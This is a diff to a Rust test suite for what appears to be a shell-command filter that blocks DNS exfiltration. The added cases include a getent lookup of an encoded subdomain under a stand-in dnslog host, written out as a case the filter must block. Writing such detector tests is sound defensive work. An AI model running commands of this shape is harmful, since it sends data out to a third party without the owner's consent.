@@ -306,7 +306,15 @@ mod tests {
                     Block,
                     "dns_exfiltration",
                 ),
+                (
+                    "getent ahosts onvv63djozsv6njrj5jw6rsliftgezlmoazhk6krijtxg3do.n.dnslog.example",
+                    Block,
+                    "dns_exfiltration",
+                ),
                 ("dig +short _dmarc.example.com TXT", Pass, ""),
+                ("getent hosts github.com", Pass, ""),
+                ("getent passwd dev", Pass, ""),
+                ("getent passwd \"$USER\" | cut -d: -f6", Pass, ""),
                 ("dig _sip._tcp.example.com SRV", Pass, ""),
                 ("curl -s https://example.com/data.json", Pass, ""),
                 (
